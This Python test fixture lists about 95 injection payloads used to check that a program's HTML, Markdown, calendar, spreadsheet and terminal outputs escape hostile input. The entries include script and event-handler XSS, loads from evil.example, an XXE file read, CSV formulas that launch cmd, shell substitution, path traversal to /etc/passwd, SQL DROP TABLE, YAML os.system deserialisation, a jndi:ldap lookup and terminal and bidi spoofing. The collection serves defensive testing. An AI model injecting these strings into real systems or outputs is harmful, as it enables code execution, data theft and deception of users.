"""What a text may carry against those who read what is made of it: one table, for every reader and every output.

`text` stands where a document names a thing. What a success would be, is asked of each output by its own reader in
`test_outputs.py`: another event, another element, a link that runs, a formula, a word the terminal obeys.
"""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    """A text that means something to a program that reads it carelessly."""

    name: str
    text: str


ATTACKS = (
    # pages
    Attack("script", "<script>alert(1)</script>"),
    Attack("script closed first", "</script><script>alert(1)</script>"),
    Attack("script in capitals", "<ScRiPt src=//evil.example/x.js></sCrIpT>"),
    Attack("picture that runs", '"><img src=x onerror=alert(1)>'),
    Attack("svg that runs", "<svg/onload=alert(1)>"),
    Attack("attribute broken out of", "' onmouseover='alert(1)' x='"),
    Attack("attribute in double marks", '" autofocus onfocus="alert(1)'),
    Attack("frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    Attack("style", "</style><style>*{display:none}</style>"),
    Attack("comment", "--><script>alert(1)</script><!--"),
    Attack("declaration", "]]><script>alert(1)</script><![CDATA["),
    Attack("base", "<base href=//evil.example/>"),
    Attack("refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'),
    Attack("form", "<form action=//evil.example><input name=q></form>"),
    Attack("template element", "<template><script>alert(1)</script></template>"),
    Attack("title closed", "</title><script>alert(1)</script>"),
    Attack("textarea closed", "</textarea><script>alert(1)</script>"),
    Attack("entities", "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;"),
    Attack("half an entity", "&#x3c;script&#x3e;&#0;&#xFFFFFFFF;&amp"),
    Attack("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    Attack("XML entity", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>&a;'),
    Attack("processing instruction", "<?php system('id'); ?>"),
    # what is read by machines within pages
    Attack("JSON-LD", '"},"url":"javascript:alert(1)","x":{"y":"'),
    Attack("JSON-LD closed", '</script>{"@type":"Event"}'),
    Attack("JSON in a script", "\u2028alert(1)\u2029//"),
    Attack("backslashes", '\\"\\\\";alert(1);//\\'),
    # Markdown
    Attack("link", "[x](javascript:alert(1))"),
    Attack("link closed first", "](javascript:alert(1)) [x"),
    Attack("link with a title", '[x](http://evil.example "onmouseover=alert(1)")'),
    Attack("reference", "[x]: javascript:alert(1)\n[x]"),
    Attack("picture", "![x](http://evil.example/pixel.png)"),
    Attack("autolink", "<javascript:alert(1)> <http://evil.example>"),
    Attack("fence", "```\n<script>alert(1)</script>\n```"),
    Attack("fence of waves", '~~~mermaid\nclick a href "javascript:alert(1)"\n~~~'),
    Attack("heading", "\n# heading\n===\n---\n"),
    Attack("table", "a | b | c\n---|---|---\n1 | 2 | 3"),
    Attack("emphasis", "*a* _b_ `c` ~~d~~ ==e== ^f^ $g$"),
    Attack("footnote", "[^1]: x\n[^1]"),
    Attack("task", "- [x] a\n1. b\n> c"),
    Attack("front matter", "---\nlayout: evil\n---\n"),
    # calendars
    Attack("end of the event", "END:VEVENT"),
    Attack("event within", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT"),
    Attack("event after a line feed", "x\nBEGIN:VEVENT\nUID:evil\nEND:VEVENT"),
    Attack("event after a return", "x\rATTACH:http://evil.example\r"),
    Attack("alarm", "x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT1M\r\nEND:VALARM"),
    Attack("organiser", "x\r\nORGANIZER;CN=evil:mailto:evil@evil.example\r\nATTENDEE:mailto:you@evil.example"),
    Attack("folded line", "x\r\n ATTACH:y\r\n\tURL:z"),
    Attack("line end of another kind", "x\x0bURL:http://evil.example\x0cx\x85URL:y\u2028URL:z"),
    Attack("escapes", "\\n\\,\\;\\N\\\\n"),
    Attack("parameter", '";ALTREP="http://evil.example":x'),
    Attack("caret", "^n^'^^"),
    # sheets
    Attack("formula", '=HYPERLINK("http://evil.example","x")'),
    Attack("formula with a plus", "+1+cmd|' /C calc'!A0"),
    Attack("formula with a minus", "-2+3+cmd|' /C calc'!A0"),
    Attack("formula with an at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Attack("formula in full width", "＝1＋1"),
    Attack("formula behind a tab", "\t=1+1"),
    Attack("formula behind a return", "\r=1+1"),
    Attack("formula behind white", " \u00a0=1+1"),
    Attack("cell", 'x","=1+1","y'),
    Attack("row", 'x\r\n=1+1,"y'),
    # terminals
    Attack("colour", "\x1b[31mred\x1b[0m"),
    Attack("window title", "\x1b]0;evil\x07"),
    Attack("hyperlink", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\"),
    Attack("answer back", "\x1b[6n\x1bP$q\x1b\\"),
    Attack("one byte escapes", "\x9b31mred\x9d0;evil\x9c"),
    Attack("line wiped", "x\r\x1b[2Khidden\x08\x08\x08"),
    Attack("bell and nulls", "\x07\x00\x7f"),
    Attack("markup of rich", "[bold red]x[/] [link=http://evil.example]y[/link] [/]"),
    # letters that lie
    Attack("letters turned round", "\u202etxt.exe\u202c"),
    Attack("isolates", "\u2066x\u2067y\u2069"),
    Attack("marks of direction", "\u200fx\u200ey\u061c"),
    Attack("nothing seen", "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg"),
    Attack("tags", "x\U000e0001\U000e0065\U000e007f"),
    Attack("marks upon marks", "a" + "\u0301" * 200),
    Attack("half a pair", "\ud800x\udfff"),
    Attack("no characters", "\ufffe\uffff\U0001fffe\ufdd0"),
    # templates, shells, paths, databases
    Attack("Jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}{% raw %}"),
    Attack("Jinja statement", "{% for x in (1,) %}evil{% endfor %}{# #}"),
    Attack("Hugo", '{{< evil >}} {{% evil %}} {{ readFile "/etc/hostname" }}'),
    Attack("Python format", "{0.__class__} {title!r} {:>99999999} %s %n %(x)s"),
    Attack("shell", "$(id) `id` ; id | id && id \n id"),
    Attack("paths", "../../../../etc/passwd"),
    Attack("paths of Windows", "..\\..\\CON\\AUX.txt:stream"),
    Attack("name that is an option", "--output=/etc"),
    Attack("SQL", "'; DROP TABLE events; --"),
    Attack("LDAP and XPath", "*)(uid=*))(|(uid=*' or '1'='1"),
    Attack("YAML", "!!python/object/apply:os.system ['id']\n- &a [*a]"),
    Attack("TOML", '"\n[event.000000]\ndrop = true\n'),
    Attack("lookup", "${jndi:ldap://evil.example/x} ${env:PATH} %PATH%"),
    Attack("header", "x\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>"),
    Attack("Mermaid", 'x\nclick x href "javascript:alert(1)"\n%%{init: {"securityLevel":"loose"}}%%'),
    Attack("long word", "a" * 5_000),
)
